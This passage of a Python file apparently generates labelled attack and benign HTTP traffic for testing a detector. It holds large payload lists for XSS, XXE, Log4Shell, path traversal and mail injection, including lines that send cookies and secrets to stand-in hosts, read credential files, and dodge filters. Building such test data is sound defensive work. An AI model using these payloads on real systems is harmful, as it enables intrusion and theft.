    H("\r\n\tX-Folded: continuation"),
    H("%0D%0ASet-Cookie:%20csrftoken=fixated"),
    H("%0d%0a%0d%0a<script>alert(1)</script>"),
    H("\u560d\u560aSet-Cookie: k=v", "json", jmode="esc"),
    H("page\x85Set-Cookie: nel=1"),
    H("page\u2028Set-Cookie: ls=1"),
    H("report.pdf%0d%0aContent-Type: text/html", "mp_filename"),
    H("\\u000d\\u000aSet-Cookie: k=1"),
    H("%0AContent-Type:text/html%0A%0A%3Cscript%3Ealert(1)%3C/script%3E"),
    H("a%0d%0aHost: internal.admin", "header", hdr="X-Original-URL"),
    H("%%0d0aSet-Cookie:pct=1"),
]

MAIL = [
    E("victim@example.com\r\nBcc: list1@spam-target.net,list2@spam-target.net"),
    E("user@mail.com\nCc: boss@corp-target.com"),
    E("Hello\r\nContent-Type: text/html\r\n\r\n<a href=http://phish.example/>Verify</a>"),
    E("-X/var/www/html/shell.php -OQueueDirectory=/tmp user@x.com"),
    E('"attacker\\" -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com'),
    E("test@example.com>\r\nRCPT TO:<victim@target.org"),
    E("\r\nDATA\r\nFrom: ceo@corp.example\r\nSubject: urgent\r\n\r\npay now\r\n.\r\nQUIT"),
    E("x@y.z\r\nReply-To: attacker@drop.box"),
    E("Subject\r\nX-Mailer: spambot\r\nBcc: a@b.c"),
    E('From: "Support" <support@bank.example>\r\nTo: victim@x.org'),
    E("me@mail.test\r\n\r\nInjected body text"),
    E('"Jane\r\nBcc: x@y.com" <jane@example.com>'),
    E("MAIL FROM:<spoof@bank.example>\r\nRCPT TO:<x@y.org>"),
    E("x@y.com\r\nX-Priority: 1\r\nBcc: whole@list.net"),
    E("\r\n.\r\nMAIL FROM:<a@b.org>\r\nRCPT TO:<c@d.org>\r\nDATA"),
    E("test@test.com\r\nTo: everyone@corp.com"),
    E("customer@mail.com\r\nSender: security@bank.example"),
    E("Order update\nContent-Transfer-Encoding: base64"),
    E("Bob\r\nBcc: bob-list@spam.net"),
    E("victim@x.com\r\nBCC: upper@x.com\r\nbcc: lower@x.com"),
    E("RCPT TO:<root@localhost>\r\nDATA\r\nSubject: test\r\n"),
    E('INBOX\r\nA002 LIST "" "*"'),
    E("\r\nUSER admin\r\nPASS letmein"),
    E("me@x.org>\r\nDATA\r\nSubject: hi"),
    E("a@b.com%0ABcc:x@y.com", "header", hdr="X-Reply-To"),
    E("newsletter@shop.example\r\nCc: a@x.io, b@x.io, c@x.io", "json_deep"),
    E("hr@corp.example\r\nBcc: leak@drop.example", "mp_field"),
    E("Re: invoice\r\nBcc: inv@x.org", "xml"),
    E("sales@x.com\r\nContent-Type: multipart/mixed; boundary=zz", "cookie", cookie="mail_from"),
    E("pwreset@site.example\r\nReturn-Path: <bounce@attacker.example>"),
    H("sales@x.com%0d%0aBcc:%20all@list.net"),
    H('"attacker\r\nBcc: x@y"@example.com'),
    H("=?utf-8?Q?Hi=0D=0ABcc:_x@y.com?="),
    H("=?UTF-8?B?%s?=" % b64("Hello\r\nBcc: m@n.io")),
    H("name@host.com\u2028Bcc: ls@x.net"),
    H("a@b.com,\r\n\tbcc@hidden.org"),
    H("%0ABcc%3Aevil%40x.com"),
    H("user@domain.com\rBcc: cr-only@x.com"),
    H("user@domain.com\nbCc: case@x.com"),
    H("support@shop.com%0D%0AContent-Type:%20multipart/mixed;%20boundary=x"),
    H("-fattacker@x.com -be ${run{/bin/id}}"),
    H("${run{/usr/bin/touch /tmp/pwned}}@localhost"),
    H("foo@bar.com\x00Bcc: null@x.com"),
    H("=?iso-8859-1?Q?=0ABcc:=20x@y.z?="),
    H("admin@site.com%0D%0ASubject:%20Password%20reset%0D%0A%0D%0AClick%20here"),
    H("\n.\r\nMAIL FROM:<x@y.org>"),
    H("news@x.com%250d%250aBcc:%2520y@z.com"),
    H("&#13;&#10;Bcc: ent@x.com"),
    H("\\u000d\\u000aBcc: js@x.com"),
    H("john@x.org\r\n bcc: folded@x.org", "json", jmode="esc"),
]

XSS = [
    E("<script>alert(document.cookie)</script>"),
    E("<img src=x onerror=alert(1)>"),
    E("<svg/onload=fetch('//198.51.100.8/c?'+document.cookie)>"),
    E('"><script src=//xss-cdn.net/h.js></script>'),
    E("javascript:alert(document.domain)"),
    E('<iframe srcdoc="<script>parent.alert(1)</script>">'),
    E("<body onpageshow=alert(1)>"),
    E("<details open ontoggle=alert(1)>"),
    E("'-alert(1)-'"),
    E("</script><script>alert(1)</script>"),
    E("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    E("<input autofocus onfocus=alert(1)>"),
    E("<video><source onerror=alert(1)>"),
    E("<marquee onstart=alert(1)>"),
    E("<form action=javascript:alert(1)><input type=submit>"),
    E('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    E('" onmouseover="alert(1)'),
    E("' autofocus onfocus='alert(1)"),
    E('<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    E('<iframe src="javascript:alert(1)">'),
    E("<x onclick=alert(1)>click"),
    E("<style>@import 'http://198.51.100.10/x.css';</style>"),
    E("<svg onload=import('//xss-host.net/m.js')>"),
    E("<img src=1 onerror=this.src='//198.51.100.11/?'+document.cookie>"),
    E("</textarea><img src onerror=alert(1)>"),
    E("data:text/html,<script>alert(1)</script>"),
    E(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
        "mp_file",
        fn="avatar.svg",
        ctype_file="image/svg+xml",
    ),
    E("<img src=x onerror=alert(2)>.png", "mp_filename"),
    E('"><img src=x onerror=prompt(1)>', "header", hdr="Referer"),
    E("{{constructor.constructor('alert(1)')()}}"),
    H('<a href="jav&#x09;ascript:alert(1)">x</a>'),
    H("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    H("<ScRiPt>prompt(1)</sCrIpT>"),
    H("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    H("%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    H("\\u003cimg src=x onerror=alert(1)\\u003e"),
    H("<img src=x onerror=eval(atob('%s'))>" % b64("alert(document.cookie)", pad=False)),
    H('<object data="data:text/html;base64,%s">' % b64("<script>alert(1)</script>")),
    H("<svg><script>alert&#40;1&#41;</script>"),
    H("<a href=javascript&colon;alert(1)>click</a>"),
    H("<img src=\"x\" onerror=\"window['al'+'ert'](1)\">"),
    H("<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
    H("<img src=x:x onerror=top[/al/.source+/ert/.source](1)>"),
    H("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    H("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    H("<img/src=x\x0conerror=alert(1)>"),
    H("<svg\tonload=alert(1)>"),
    H("<img src=x onerror=alert`1`>"),
    H(
        '<embed src="data:image/svg+xml;base64,%s">'
        % b64("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    ),
    H("'\"--></style></script><svg onload=alert(7)>"),
]

PT = [
    E("../../../../etc/passwd", "path", slash=True),
    E("..\\..\\..\\windows\\win.ini"),
    E("/etc/passwd"),
    E("/proc/self/environ"),
    E("../../../../proc/self/cmdline"),
    E("..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    E("C:\\Windows\\System32\\drivers\\etc\\hosts"),
    E("../../../var/log/nginx/access.log"),
    E("../../../../root/.ssh/id_rsa", "path", slash=True),
    E("../../.env"),
    E("../WEB-INF/web.xml", "path", slash=True),
    E("../../../../../../../../../../../../etc/hosts"),
    E("../../../home/ubuntu/.aws/credentials"),
    E("../../../../usr/local/tomcat/conf/tomcat-users.xml"),
    E("../../../var/www/html/shell.php", "mp_filename"),
    E("..\\..\\..\\Users\\Public\\evil.dll", "mp_filename"),
    E("../../../../etc/shadow", "json"),
    E("../../../../etc/issue", "cookie", cookie="lang"),
    E("/../../../../etc/group", "header", hdr="X-Original-URL"),
    E("/proc/self/fd/3"),
    E("\\\\localhost\\c$\\windows\\win.ini"),
    E("/var/lib/mysql/mysql/user.MYD"),
    E("../../../../../opt/app/config/database.yml"),
    E("../.git/config", "path", slash=True),
    E("../../../../etc/passwd\x00.png"),
    E("../../../../../../boot.ini"),
    E("../../../../etc/nginx/nginx.conf", "xml"),
    E("../../app/settings.py", "form"),
    E("../../../../../etc/mysql/my.cnf", "json_deep"),
    E("../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "mp_field"),
    H("....//....//....//etc/passwd"),
    H("..%2f..%2f..%2fetc%2fpasswd"),
    H("%2e%2e%2f%2e%2e%2fetc/shadow"),
    H("..%252f..%252f..%252fetc/passwd"),
    H("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    H("..%c0%af..%c0%afetc/hosts"),
    H("%u002e%u002e%u2215etc%u2215passwd"),
    H("..././..././..././etc/passwd", "path", slash=True),
    H("/var/www/html/../../../etc/passwd"),
    H("..%5c..%5c..%5cboot.ini"),
    H("..;/..;/admin/", "path", slash=True, path="/app/{}"),
    H(".%2e/.%2e/.%2e/etc/passwd"),
    H("%2e%2e\\%2e%2e\\%2e%2e\\windows\\system.ini"),
    H("..\\/..\\/..\\/etc/passwd"),
    H("..%u2216..%u2216windows%u2216win.ini"),
    H("..%e0%80%ae/..%e0%80%ae/etc/passwd"),
    H("%252e%252e%252fetc%252fpasswd"),
    H("..\uff0f..\uff0fetc\uff0fpasswd"),
    H("/.%2e/.%2e/.%2e/etc/passwd", "path", slash=True, path="/static{}"),
    H("..//..//..//etc//issue.net", "json", jmode="esc"),
]


def xxe_docs():
    d = []
    e, h = d.append, lambda x, **k: d.append(H(x, **k))
    e(
        E(
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<order><customer>&xxe;</customer><total>12.00</total></order>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><r><v>&meta;</v></r>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0"?>\n<!DOCTYPE data [\n<!ENTITY % ext SYSTEM "http://198.51.100.12/x.dtd">\n%ext;\n]>\n<data>1</data>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n]>\n<lolz>&lol4;</lolz>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE cfg [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]><methodCall><methodName>&src;</methodName></methodCall>',
            "xml_doc",
            path="/xmlrpc.php",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY cmd SYSTEM "expect://id">]><invoice><id>&cmd;</id></invoice>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xx SYSTEM "file:///etc/hostname">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n  <soap:Body><GetInvoice xmlns="urn:billing"><InvoiceId>&xx;</InvoiceId></GetInvoice></soap:Body>\n</soap:Envelope>',
            "xml_doc",
            path="/soap/InvoiceService",
            ctype="text/xml; charset=utf-8",
            extra_headers={"SOAPAction": '"urn:billing#GetInvoice"'},
        )
    )
    e(
        E(
            '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="0" y="20">&f;</text></svg>',
            "mp_file",
            fn="avatar.svg",
            ctype_file="image/svg+xml",
        )
    )
    e(
        E(
            '<catalog xmlns:xi="http://www.w3.org/2001/XInclude"><product><name><xi:include parse="text" href="file:///etc/passwd"/></name></product></catalog>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE m PUBLIC "-//ACME//DTD Orders 1.0//EN" "http://198.51.100.13/orders.dtd"><m><o>1</o></m>',
            "xml_doc",
        )
    )
    e(E('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY n SYSTEM "netdoc:///etc/passwd">]><r>&n;</r>', "xml_doc"))
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY j SYSTEM "jar:http://198.51.100.14/x.zip!/a.txt">]><r>&j;</r>',
            "xml_doc",
        )
    )
    e(E('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]><r>&w;</r>', "xml_doc"))
    e(E('<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://198.51.100.15/evil.dtd"><foo>bar</foo>', "xml_doc"))
    h('<?xml version="1.0"?><!DOCTYPE u [<!ENTITY p SYSTEM "/etc/passwd">]><user><name>&p;</name></user>', at="json")
    e(E('<?xml version="1.0"?><!DOCTYPE u [<!ENTITY env SYSTEM "file:///proc/self/environ">]><u>&env;</u>', "form"))
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY d SYSTEM "data://text/plain;base64,%s">]><r>&d;</r>'
            % b64("hello"),
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0" encoding="UTF-8"?>\n<methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://198.51.100.16/</string></value></param></params></methodCall>'.replace(
                "<methodCall>", '<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]><methodCall>'
            ).replace("http://198.51.100.16/", "&x;"),
            "xml_doc",
            path="/xmlrpc.php",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE propfind [<!ENTITY p SYSTEM "file:///etc/shadow">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&p;</D:displayname></D:prop></D:propfind>',
            "xml_doc",
            method="PROPFIND",
            path="/webdav/docs/",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY t SYSTEM "https://198.51.100.17:8443/track">]><gpx version="1.1" creator="x"><trk><name>&t;</name></trk></gpx>',
            "xml_doc",
            path="/api/v2/gpx/upload",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "ftp://198.51.100.18:2121/x">]><rss version="2.0"><channel><title>&f;</title></channel></rss>',
            "xml_doc",
            path="/api/feeds/ingest",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\'file:///etc/passwd\')"/></xsl:template></xsl:stylesheet>',
            "xml_doc",
            path="/api/v1/reports/xslt",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="http://198.51.100.19/evil.xsl"/></xsl:stylesheet>',
            "mp_file",
            fn="transform.xsl",
            ctype_file="application/xslt+xml",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY x SYSTEM "file:///etc/passwd">]><users><user name="&x;"/></users>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY loc SYSTEM "http://127.0.0.1:8080/admin">]><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&loc;</loc></url></urlset>',
            "xml_doc",
            path="/sitemap/submit",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY k SYSTEM "file:///home/app/.ssh/id_rsa">]><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&k;</name></Placemark></kml>',
            "mp_file",
            fn="route.kml",
            ctype_file="application/vnd.google-earth.kml+xml",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://198.51.100.20/oob.dtd">%remote;%init;%trick;]><r/>',
            "xml_doc",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY s SYSTEM "file:///etc/hosts">]><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&s;</ID></Invoice>',
            "json",
            json={"ubl": P, "tenant": "acme"},
            path="/api/v1/invoices/ubl",
        )
    )
    e(E('<?xml version="1.0"?><!DOCTYPE q [<!ENTITY x SYSTEM "file:///etc/group">]><q>&x;</q>', "query"))
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY probe SYSTEM "http://198.51.100.28:8080/probe">]><order><sku>&probe;</sku><qty>1</qty></order>',
            "xml_doc",
            method="PUT",
            path="/api/v1/orders/5521",
        )
    )
    e(
        E(
            '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY e SYSTEM "http://[::ffff:c633:6415]/d">]><feed xmlns="http://www.w3.org/2005/Atom"><title>&e;</title></feed>',
            "mp_field",
        )
    )
    h(
        '<?xml version="1.0"?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n<!ENTITY % ISOamso \'\n<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n&#x25;eval;\n&#x25;error;\n\'>\n%local_dtd;\n]>\n<message>x</message>',
        at="xml_doc",
    )
    h(
        '<?xml version="1.0" encoding="UTF-7"?>'
        + codecs.encode('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "utf-7")
        .decode("ascii")
        .replace("+AC0-", "-"),
        at="xml_doc",
    )
    h(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n\t<!ENTITY\n\t\txxe\n\t\tSYSTEM\n\t\t'file:///etc/hostname'\n\t>\n]>\n<foo>&xxe;</foo>",
        at="xml_doc",
    )
    h(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a "<!ENTITY b SYSTEM \'file:///etc/shadow\'>"> %a;]><x>&b;</x>',
        at="xml_doc",
    )
    h(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p1 SYSTEM "file:///etc/passwd"><!ENTITY % p2 "<!ENTITY e SYSTEM \'http://198.51.100.16/?%p1;\'>">%p2;]><x>&e;</x>',
        at="xml_doc",
    )
    h(
        '<?xml version="1.0"?><!DOCTYPE foo [<!-- harmless comment --><!ENTITY x SYSTEM "file:///etc/issue"><!-- end -->]><foo>&x;</foo>',
        at="xml_doc",
    )
    h(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
        + "ab" * 120
        + '"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><r>'
        + "&b;" * 40
        + "</r>",
        at="xml_doc",
    )
    h(
        '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/fstab"><!ENTITY % start "<![CDATA["><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://198.51.100.21/cdata.dtd">%dtd;]><data>&all;</data>',
        at="xml_doc",
    )
    h('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY u SYSTEM "\\\\198.51.100.19\\share\\x">]><r>&u;</r>', at="xml_doc")
    h('<?xml version="1.0"?><!DOCTYPE r[<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', at="json", jmode="esc")
    h(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY b64 SYSTEM "php://filter/read=convert.base64-encode/resource=file:///etc/hosts">]><r>&b64;</r>',
        at="xml_doc",
    )
    h(
        '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="xml" href="http://127.0.0.1:8080/internal/config.xml"/></root>',
        at="xml_doc",
    )
    h(
        "\ufeff" + '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/machine-id">]><r>&x;</r>',
        at="xml_doc",
    )
    h("<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///proc/self/cwd/app.py'>]><r>&x;</r>", at="xml_doc")
    h(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://[::ffff:c633:6414]/d.dtd">%d;]><r/>',
        at="mp_file",
        fn="import.xml",
        ctype_file="text/xml",
    )
    h(
        b64(
            '<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><samlp:Status>&x;</samlp:Status></samlp:Response>'
        ),
        at="form",
        form=[("SAMLResponse", P), ("RelayState", "/dashboard")],
        path="/saml/acs",
    )
    h(
        "%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Cr%3E%26x%3B%3C%2Fr%3E",
        at="query",
    )
    h(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % s SYSTEM "http://198.51.100.22/svg.dtd">%s;]><svg xmlns="http://www.w3.org/2000/svg"><text>&exfil;</text></svg>',
        at="mp_file",
        fn="logo.svg",
        ctype_file="image/svg+xml",
    )
    h('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "gopher://127.0.0.1:6379/_INFO">]><r>&x;</r>', at="xml_doc")
    return d


XXE = xxe_docs()

L_HOSTS = ["198.51.100.20", "203.0.113.21", "l4j.oast-c2.net", "198.51.100.24", "203.0.113.25", "x.example-c2.net"]
LOG4 = [
    E("${jndi:ldap://198.51.100.20:1389/a}"),
    E("${jndi:rmi://203.0.113.21:1099/Exploit}"),
    E("${jndi:dns://q1.l4j.oast-c2.net/q}"),
    E("${jndi:ldaps://203.0.113.22:636/o}"),
    E("${jndi:iiop://198.51.100.23:1050/x}"),
    E("${jndi:corba://203.0.113.23:1050/y}"),
    E("${jndi:nis://198.51.100.29/z}"),
    E("${jndi:nds://198.51.100.30/z}"),
    E("${jndi:http://198.51.100.31:8080/Exploit.class}"),
    E("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oast-c2.net/x}"),
    E("${jndi:ldap://${sys:java.version}.x.example-c2.net/a}"),
    E("${jndi:ldap://x${hostName}.L4J.oast-c2.net/a}"),
    E("${jndi:ldap://198.51.100.25:1389/Basic/Command/Base64/aWQ=}"),
    E("${jndi:ldap://log4j-check.example-c2.net:443/${java:version}}"),
    E("${jndi:dns://${env:USER}.d.example-c2.net}"),
    E("${jndi:ldap://198.51.100.24/${date:MM-dd-yyyy}}"),
    E("${env:DB_PASSWORD}"),
    E("${sys:user.home}"),
    E("${jndi:rmi://198.51.100.26:1099/obj}", "header", hdr="X-Api-Version"),
    E("${jndi:ldap://203.0.113.26/ua}", "header", hdr="User-Agent"),
    E("${jndi:ldap://203.0.113.27/ref}", "header", hdr="Referer"),
    E("${jndi:ldap://203.0.113.28/xff}", "header", hdr="X-Forwarded-For"),
    E("Bearer ${jndi:ldap://203.0.113.29/auth}", "header", hdr="Authorization"),
    E("${jndi:ldap://198.51.100.32:1389/cookie}", "cookie"),
    E("${jndi:ldap://198.51.100.33/json}", "json"),
    E("${jndi:ldap://198.51.100.34/k}", "json_key"),
    E("${jndi:ldap://198.51.100.35/form}", "form"),
    E("${jndi:ldap://198.51.100.36/xml}", "xml"),
    E("${jndi:ldap://198.51.100.37/mp}", "mp_field"),
    E("${jndi:ldap://198.51.100.38/path}", "path"),
    H("${${lower:j}ndi:${lower:l}dap://198.51.100.40/a}"),
    H("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.41/b}"),
    H("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.42/c}"),
    H("${jndi:${lower:L}${lower:D}AP://198.51.100.43/d}"),
    H("${${upper:j}ndi:ldap://198.51.100.44/e}"),
    H("%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.45%2Ff%7D"),
    H("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.46/g}"),
    H("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.47/h}"),
    H("${jndi:ldap://127.0.0.1#l4j.oast-c2.net:1389/i}"),
    H("${jndi:ldap://[::ffff:c633:6430]:1389/j}"),
    H("${${lower:${lower:jndi}}:${lower:rmi}://198.51.100.49/k}"),
    H("${jnd${upper:\u0131}:ldap://198.51.100.50/l}"),
    H("$%7Bjndi:ldap://198.51.100.51/m%7D"),
    H("${jndi:ldap://198.51.100.52/n}", "json", jmode="esc"),
    H(
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-r}mi${env:BARFOO:-:}//198.51.100.53/o}",
        "header",
        hdr="X-Client-IP",
    ),
    H("${jndi:ldap://${:-198}.${:-51}.100.54/p}", "header", hdr="True-Client-IP"),
    H("${${::-j}ndi:rmi://198.51.100.55/q}", "header", hdr="Origin"),
    H("%2524%257Bjndi:ldap://198.51.100.56/r%257D"),
    H("${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://198.51.100.57/s}", "header", hdr="Accept-Language"),
    H("${jndi:${lower:d}${lower:n}${lower:s}://s.l4j.oast-c2.net}", "header", hdr="CF-Connecting-IP"),
]

ATTACKS = [
    ("java_injection", JAVA),
    ("php_injection", PHP),
    ("code_injection", CODE),
    ("rfi", RFI),
    ("ssrf", SSRF),
    ("rce", RCE),
    ("sqli", SQLI),
    ("nosqli", NOSQLI),
    ("ldapi", LDAPI),
    ("ssti", SSTI),
    ("crlf", CRLF),
    ("mail_injection", MAIL),
    ("xss", XSS),
    ("path_traversal", PT),
    ("xxe", XXE),
    ("log4shell", LOG4),
]


def gen_attacks():
    rows = []
    for cat, entries in ATTACKS:
        assert len(entries) == N_ATTACK, (cat, len(entries))
        nh = sum(1 for e in entries if e.hard)
        assert nh == N_HARD, (cat, nh)
        cyc = CYCLES[cat]
        ptr = 0
        terse = set(R.sample(range(N_ATTACK), N_TERSE))
        for i, e in enumerate(entries):
            at = e.at
            if at is None:
                for k in range(len(cyc)):
                    cand = cyc[(ptr + k) % len(cyc)]
                    if compat(cand, e.payload):
                        at = cand
                        ptr = (ptr + k + 1) % len(cyc)
                        break
            assert at and compat(at, e.payload), (cat, i, at, e.payload)
            kw = dict(e.kw)
            if e.hard:
                kw.setdefault("enc", pick(["mixed", "full", "lower", "std", "mixed"]))
                kw.setdefault("jmode", pick([None, "ascii", "esc", "esc"]))
            else:
                kw.setdefault("enc", pick(["std", "std", "plus", "full"]))
                kw.setdefault("jmode", pick([None, None, "ascii"]))
            spec = choose_spec(cat, at, kw)
            style = "tool" if i in terse else pick(["browser", "browser", "browser", "browser", "api"])
            req = make_request(at, e.payload, style, pick(ALL_HOSTS), spec)
            rows.append(row("%s-a-%s-%04d" % (SRC, cat, i + 1), "attack", cat, req, e.payload, e.hard))
    return rows


# --------------------------------------------------------------------------
# benign traffic
# --------------------------------------------------------------------------

FIRST = [
    "Emma",
    "Liam",
    "Sofía",
    "Mateo",
    "Chloé",
    "Lukas",
    "Aoife",
    "Siobhán",
    "Zoë",
    "Noah",
    "Amélie",
    "Jürgen",
    "Björn",
    "Priya",
    "Arjun",
    "Wei",
    "Mei",
    "Hiroshi",
    "Yuki",
    "Min-jun",
    "Ji-woo",
    "Fatima",
    "Omar",
    "Yusuf",
    "Leila",
    "Noa",
    "Itai",
    "Olga",
    "Dmitri",
    "Kwame",
    "Ama",
    "Chidi",
    "Ngozi",
    "Lucas",
    "Gabriel",
    "Ana",
    "João",
    "Marta",
    "Kasia",
    "Mikkel",
    "Ingrid",
    "Seán",
    "Ciarán",
    "Renée",
    "François",
    "Zoltán",
    "Ayşe",
    "Mehmet",
    "Thảo",
    "Mary-Kate",
    "Jean-Luc",
    "Anne-Sophie",
    "Raj",
    "Tomás",
    "Nikolaj",
    "Elif",
    "Sanjay",
    "Hana",
]
LAST = [
    "O'Connor",
    "D'Angelo",
    "O'Brien",
    "McAllister",
    "Müller",
    "García",
    "Smith",
    "Nakamura",
    "Kim",
    "Okafor",
    "Nguyen",
    "Dubois",
    "Rossi",
    "Kowalski",
    "Andersen",
    "Haddad",
    "Cohen",
    "Ivanova",
    "Fernández",
    "Silva",
    "Chen",
    "Singh",
    "Patel",
    "Walsh",
    "N'Diaye",
    "de la Cruz",
    "van der Berg",
    "Al-Sayed",
    "Ó Súilleabháin",
    "Lefèvre",
    "Dvořák",
    "Øvergaard",
    "Schäfer",
    "Johnson",
    "Brown",
    "Tanaka",
    "Park",
    "Yılmaz",
    "Novák",
    "Papadopoulos",
    "Hernández",
    "Wright",
    "Byrne",
    "St. James",
    "Fitzgerald-Hayes",
    "D'Souza",
    "L'Écuyer",
]
CITIES = [
    ("Berlin", "10115", "DE"),
    ("Dublin", "D02 X285", "IE"),
    ("Austin", "78701", "US"),
    ("São Paulo", "01310-100", "BR"),
    ("Lyon", "69002", "FR"),
    ("Osaka", "530-0001", "JP"),
